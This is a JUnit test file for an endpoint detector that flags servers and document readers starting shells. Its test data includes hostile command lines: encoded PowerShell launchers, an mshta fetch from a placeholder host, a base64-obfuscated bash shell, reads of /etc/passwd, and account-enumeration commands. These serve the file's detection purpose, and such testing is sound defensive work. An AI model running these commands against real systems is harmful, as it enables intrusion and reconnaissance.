package dev.rubato.detect.spawn;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.ProcessKey;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Logs that tell who started what and nothing of sockets: the starter's role and the child's arguments are all there is. */
class HostLogTest {
    private static final String SYSTEM = "C:\\Windows\\System32\\";

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        C:\\Windows\\System32\\inetsrv\\w3wp.exe   | w3wp.exe -ap DefaultAppPool              | cmd.exe        | cmd.exe /c net user
        C:\\Windows\\System32\\inetsrv\\w3wp.exe   | w3wp.exe -ap DefaultAppPool              | cmd.exe        | cmd.exe /c dir
        C:\\Windows\\System32\\inetsrv\\w3wp.exe   | w3wp.exe -ap DefaultAppPool              | whoami.exe     | whoami
        C:\\Windows\\System32\\wsmprovhost.exe     | wsmprovhost.exe -Embedding               | powershell.exe | powershell.exe
        C:\\Windows\\System32\\winrshost.exe       | WinrsHost.exe -Embedding                 | cmd.exe        | cmd.exe /C ipconfig
        C:\\Windows\\System32\\wbem\\WmiPrvSE.exe  | wmiprvse.exe -secured -Embedding         | cmd.exe        | cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1
        C:\\Windows\\System32\\services.exe        | services.exe                             | cmd.exe        | cmd.exe /C start /b powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBF
        C:\\Windows\\PSEXESVC.exe                  | PSEXESVC.exe                             | cmd.exe        | cmd.exe
        C:\\Windows\\System32\\mmc.exe             | mmc.exe -Embedding                       | cmd.exe        | cmd.exe /c calc
        C:\\Program Files\\SQL\\sqlservr.exe       | sqlservr.exe -sMSSQLSERVER               | cmd.exe        | cmd.exe /c whoami
        C:\\Tomcat\\bin\\tomcat9.exe               | tomcat9.exe //RS//Tomcat9                | cmd.exe        | cmd.exe /c whoami
        C:\\xampp\\apache\\bin\\httpd.exe          | httpd.exe -d C:/xampp/apache             | cmd.exe        | cmd.exe /s /c tasklist
        C:\\Program Files\\nodejs\\node.exe        | node.exe C:\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js | cmd.exe | cmd.exe /d /s /c whoami
        C:\\Office\\WINWORD.EXE                    | WINWORD.EXE /n C:\\Users\\a\\x.docm      | powershell.exe | powershell.exe exit
        C:\\Office\\EXCEL.EXE                      | EXCEL.EXE                                | wscript.exe    | wscript.exe //b
        C:\\Office\\OUTLOOK.EXE                    | OUTLOOK.EXE                              | cmd.exe        | cmd.exe /c x
        C:\\Program Files\\WinRAR\\WinRAR.exe      | WinRAR.exe x.rar                         | cmd.exe        | cmd.exe /c start /b mshta https://page.example.org/a
        C:\\Program Files\\IE\\iexplore.exe        | iexplore.exe http://example.org          | mshta.exe      | mshta.exe "C:\\Users\\a\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet Files\\u.hta"
        C:\\Windows\\System32\\mshta.exe           | mshta.exe C:\\Users\\a\\x.hta            | powershell.exe | powershell.exe -nop -c x
        C:\\Windows\\System32\\wscript.exe         | wscript.exe C:\\Users\\a\\x.js           | powershell.exe | powershell.exe -w Hidden -ep Bypass -file C:\\Users\\a\\x.ps1
        C:\\Windows\\System32\\rundll32.exe        | rundll32.exe C:\\Users\\a\\socks.dat,#1  | cmd.exe        | cmd.exe /c "net localgroup administrators"
        C:\\Windows\\hh.exe                        | hh.exe C:\\Users\\a\\x.chm               | cmd.exe        | cmd.exe /c x.bat
            C:\\Windows\\System32\\wsmprovhost.exe     | wsmprovhost.exe -Embedding               | HOSTNAME.EXE   | HOSTNAME.EXE
            C:\\Windows\\System32\\wbem\\WmiPrvSE.exe  | wmiprvse.exe -Embedding                  | C.exe          | C:\\ProgramData\\C.exe
        C:\\Windows\\System32\\spoolsv.exe         | spoolsv.exe                              | cmd.exe        | cmd.exe
        /usr/sbin/apache2                          | /usr/sbin/apache2 -k start               | sh             | sh -c "ls; id"
        /usr/sbin/php-fpm8.2                       | php-fpm: pool www                        | sh             | sh -c whoami
        /usr/lib/jvm/jre/bin/java                  | java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start | bash | bash -c "{echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}"
        """)
    void aServerOrAReaderOfStrangersFilesThatStartsAShellIsReviewed(
            String exe, String commandLine, String childName, String childLine) {
        LogStory story = new LogStory();
        String windows = childLine.startsWith("C:\\ProgramData") ? childLine : SYSTEM + childName;
        story.start(story.known(exe, commandLine), exe.startsWith("/") ? "/bin/" + childName : windows, childLine);
        assertEquals(1, story.alarms().size(), () -> story.alerts.toString());
        Alert alert = story.alarms().getFirst();
        assertTrue(alert.severity().compareTo(Severity.MEDIUM) >= 0);
        assertTrue(alert.summary().contains(childName.replace(".exe", "")), alert::summary);
        assertTrue(
                alert.notes().stream().anyMatch(note -> note.contains("known by its name alone")),
                () -> alert.notes().toString());
        assertEquals(
                alert.score(),
                alert.evidence().stream().mapToDouble(Alert.Evidence::nats).sum(),
                1e-9);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        C:\\Chrome\\chrome.exe                     | chrome.exe                               | cmd.exe        | cmd.exe /d /c "C:\\Program Files (x86)\\Adobe\\Host.exe" chrome-extension://efaidnbm/ --parent-window=0 < \\\\.\\pipe\\chrome.in > \\\\.\\pipe\\chrome.out
        C:\\Edge\\msedge.exe                       | msedge.exe                               | identity_helper.exe | identity_helper.exe --type=utility
        C:\\Program Files\\IE\\iexplore.exe        | iexplore.exe                             | rundll32.exe   | rundll32.exe C:\\Windows\\System32\\inetcpl.cpl,ClearMyTracksByProcess Flags:8
        C:\\Office\\OUTLOOK.EXE                    | OUTLOOK.EXE                              | Acrobat.exe    | Acrobat.exe x.pdf
        C:\\Office\\OUTLOOK.EXE                    | OUTLOOK.EXE                              | rundll32.exe   | rundll32.exe C:\\Windows\\System32\\shell32.dll,OpenAs_RunDLL C:\\Users\\a\\x.dat
        C:\\Windows\\System32\\services.exe        | services.exe                             | msiexec.exe    | msiexec.exe /V
        C:\\Windows\\System32\\services.exe        | services.exe                             | svchost.exe    | svchost.exe -k netsvcs -p
        C:\\Windows\\System32\\services.exe        | services.exe                             | python.exe     | python.exe C:\\app\\service.py
        C:\\Windows\\System32\\svchost.exe         | svchost.exe -k netsvcs -p -s Schedule    | rundll32.exe   | rundll32.exe Startupscan.dll,SusRunTask
        C:\\Windows\\System32\\svchost.exe         | svchost.exe -k DcomLaunch -p             | WmiPrvSE.exe   | wmiprvse.exe -Embedding
        C:\\Windows\\explorer.exe                  | explorer.exe                             | cmd.exe        | cmd.exe
        C:\\Defender\\SenseIR.exe                  | SenseIR.exe OfflineSenseIR               | powershell.exe | powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {x}"
        C:\\Windows\\System32\\CompatTelRunner.exe | compattelrunner.exe -m:appraiser.dll     | powershell.exe | powershell.exe -ExecutionPolicy Restricted -Command Write-Host
        C:\\Windows\\CCM\\CcmExec.exe              | CcmExec.exe                              | powershell.exe | powershell.exe -NoLogo -Command x
        C:\\Windows\\System32\\wscript.exe         | wscript.exe \\\\dc\\netlogon\\logon.vbs  | cmd.exe        | cmd.exe /c \\\\dc\\netlogon\\map.bat
        C:\\Program Files\\nodejs\\node.exe        | node.exe C:\\p\\node_modules\\jest\\bin\\jest.js server | cmd.exe | cmd.exe /d /s /c "git rev-parse HEAD"
        C:\\Program Files\\nodejs\\node.exe        | node.exe C:\\p\\node_modules\\vite\\bin\\vite.js serve | cmd.exe | cmd.exe /d /s /c "start http://localhost:5173"
        /usr/sbin/apache2                          | /usr/sbin/apache2 -k start               | sh             | sh -c "/usr/bin/rotatelogs /var/log/access 86400"
            C:\\Office\\OUTLOOK.EXE                    | OUTLOOK.EXE                              | rundll32.exe   | rundll32.exe shell32.dll,OpenAs_RunDLL x.dat
            /usr/sbin/apache2                          | /usr/sbin/apache2 -k start               | perl           | perl awstats.pl
            /usr/lib/jvm/jre/bin/java                  | java -Dcatalina.home=/opt/tomcat x.Main  | hostname       | hostname
            /usr/lib/jvm/jre/bin/java                  | java -cp /opt/jetty-server.jar:/opt/x.jar org.x.NameNode | bash | bash -c "id -gn user"
        /usr/sbin/apache2                          | /usr/sbin/apache2 -k start               | php-cgi        | php-cgi -c /etc/php
        /usr/sbin/php-fpm8.2                       | php-fpm: pool www                        | sh             | sh -c "/usr/sbin/sendmail -t -i"
        /usr/sbin/php-fpm8.2                       | php-fpm: pool www                        | sh             | sh -c "convert a.png -resize 50% b.png 2>&1"
        /usr/lib/postgresql/16/bin/postgres        | postgres: archiver                       | sh             | sh -c "test ! -f /mnt/a/1 && cp pg_wal/1 /mnt/a/1"
        /usr/sbin/mysqld                           | /usr/sbin/mysqld                         | sh             | sh -c "/usr/local/bin/backup.sh --all"
        /usr/sbin/sshd                             | sshd: root@pts/0                         | bash           | bash -c "tar cz /etc"
        /usr/lib/jvm/jre/bin/java                  | java -jar /usr/share/java/jenkins.war    | sh             | sh -xe /tmp/jenkins1823.sh
        /usr/bin/containerd-shim-runc-v2           | containerd-shim-runc-v2 -namespace moby  | sh             | sh -c "curl -f http://localhost:8080/health || exit 1"
        /usr/sbin/cron                             | /usr/sbin/cron -f                        | sh             | sh -c "cd / && run-parts --report /etc/cron.hourly"
        /usr/bin/git                               | git commit                               | sh             | sh -c .git/hooks/pre-commit
        /usr/bin/node                              | node /usr/local/bin/codex                | bash           | bash -lc "whoami; uname -a"
        /usr/bin/python3                           | python3 -m pytest tests/test_server.py   | sh             | sh -c whoami
        /usr/bin/python3                           | python3 manage.py runserver              | sh             | sh -c "uname -p 2> /dev/null"
        """)
    void whatStartsShellsForALivingStaysBelowAnAlarm(
            String exe, String commandLine, String childName, String childLine) {
        LogStory story = new LogStory();
        String child = exe.startsWith("/") ? "/bin/" + childName : SYSTEM + childName;
        ProcessKey started = story.start(story.known(exe, commandLine), child, childLine);
        story.start(started, exe.startsWith("/") ? "/usr/bin/true" : SYSTEM + "conhost.exe", "x");
        assertTrue(story.alarms().isEmpty(), () -> story.alarms().toString());
    }

    @Test
    void theFirstContactOfWhatAReaderStartedUpdatesItsAlert() {
        LogStory story = new LogStory();
        ProcessKey reader = story.known("C:\\Office\\WINWORD.EXE", "WINWORD.EXE /n x.docm");
        ProcessKey shell = story.start(reader, SYSTEM + "cmd.exe", "cmd.exe /c x");
        story.connect(shell, "203.0.113.9", 443);
        story.connect(shell, "203.0.113.10", 443);
        assertEquals(2, story.alarms().size());
        assertEquals(1, story.alarms().getLast().update());
        assertEquals(Severity.HIGH, story.alarms().getLast().severity());
        assertEquals(story.alarms().getFirst().id(), story.alarms().getLast().id());
    }

    @Test
    void whatRunsIsNamedThoughItsCommandLineSaysLess() {
        LogStory story = new LogStory();
        ProcessKey archive = story.known("C:\\WinRAR\\WinRAR.exe", "WinRAR.exe x.rar");
        ProcessKey shell = story.start(archive, SYSTEM + "cmd.exe", "cmd.exe /c start /b mshta https://example.org/a");
        story.start(shell, SYSTEM + "mshta.exe", "mshta https://example.org/a");
        Alert last = story.alarms().getLast();
        assertTrue(
                last.events().getLast().text().contains("(mshta.exe, pid "),
                () -> last.events().toString());
    }

    @Test
    void anotherProgramBetweenIsAnActorOfItsOwn() {
        LogStory story = new LogStory();
        ProcessKey reader = story.known("C:\\Office\\OUTLOOK.EXE", "OUTLOOK.EXE");
        ProcessKey app = story.start(reader, "C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Teams.exe", "Teams.exe");
        story.start(app, SYSTEM + "cmd.exe", "cmd.exe /c reg query HKCU");
        assertTrue(story.alerts.isEmpty());
    }

    @Test
    void aProcessThatRanAServersImageBeforeStandsForAParentThatTheLogDoesNotShow() {
        LogStory story = new LogStory();
        ProcessKey parent = new ProcessKey(900, 0);
        ProcessKey child = story.start(parent, "/usr/lib/jvm/bin/java", "java -Dcatalina.base=/opt/tomcat");
        assertTrue(story.alerts.isEmpty());
        story.become(child, parent, "/bin/bash", "bash -c \"{echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}\"");
        assertEquals("service", story.alarms().getFirst().variant());
    }

    @Test
    void theAccountOfAServerStandsForAParentThatTheLogDoesNotShow() {
        LogStory story = new LogStory();
        story.start(new ProcessKey(900, 0), "/bin/sh", "sh -c \"cat /etc/passwd\"", "www-data");
        assertEquals(1, story.alarms().size());
        story.start(new ProcessKey(901, 0), "/bin/sh", "sh -c \"php -f /var/www/cron.php\"", "www-data");
        story.start(new ProcessKey(902, 0), "/bin/sh", "sh -c \"cat /etc/passwd\"", "me");
        assertEquals(1, story.alarms().size(), () -> story.alarms().toString());
    }

    @Test
    void aServiceThatAnotherHostReachedJustBeforeIsKnownByStructureWhateverItsName() {
        LogStory story = new LogStory();
        ProcessKey service = story.known("/opt/product/daemon", "/opt/product/daemon");
        story.visit(service, "192.0.2.7", 8443);
        ProcessKey shell = story.start(service, "/bin/sh", "sh -c \"x > y\"");
        Alert alert = story.alarms().getFirst();
        assertEquals("service", alert.variant());
        assertEquals(Severity.MEDIUM, alert.severity());
        assertTrue(alert.summary().contains("which 192.0.2.7 reached on port 8443"), alert::summary);
        assertFalse(alert.notes().stream().anyMatch(note -> note.contains("known by its name")));
        story.connect(shell, "192.0.2.7", 4444);
        assertEquals(Severity.HIGH, story.alarms().getLast().severity());
    }

    @Test
    void aVisitThatArrivesAfterTheStartItCausedIsJoinedByTime() {
        LogStory story = new LogStory();
        ProcessKey service = story.known("/opt/product/daemon", "/opt/product/daemon");
        story.visit(service, "192.0.2.7", 8443);
        story.nowNs += 3_600_000_000_000L;
        long visitNs = story.nowNs - 1_000_000L;
        story.start(service, "/bin/sh", "sh -c \"x > y\"");
        assertTrue(story.alarms().isEmpty());
        story.visitAt(visitNs, service, "192.0.2.8", 8443);
        assertEquals(1, story.alarms().size());
    }

    @Test
    void aServiceThatIsVisitedAllTheTimeMeetsItsOwnChoresByChance() {
        LogStory story = new LogStory();
        ProcessKey service = story.known("/opt/product/daemon", "/opt/product/daemon");
        for (int i = 0; i < 400; i++) {
            story.visit(service, "192.0.2.7", 8443);
        }
        story.start(service, "/bin/sh", "sh -c \"backup --all > /var/log/backup\"");
        assertTrue(story.alarms().isEmpty(), () -> story.alarms().toString());
    }

    @Test
    void aLoginServiceOpensSessionsForWhoeverReachesIt() {
        LogStory story = new LogStory();
        ProcessKey sshd = story.known("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D");
        story.visit(sshd, "192.0.2.7", 22);
        ProcessKey session = story.start(sshd, "/usr/sbin/sshd", "sshd: me [priv]");
        ProcessKey shell = story.start(session, "/bin/bash", "bash -c \"rsync --server .\"");
        story.connect(shell, "192.0.2.9", 443);
        assertTrue(story.alarms().isEmpty(), () -> story.alarms().toString());
    }
}
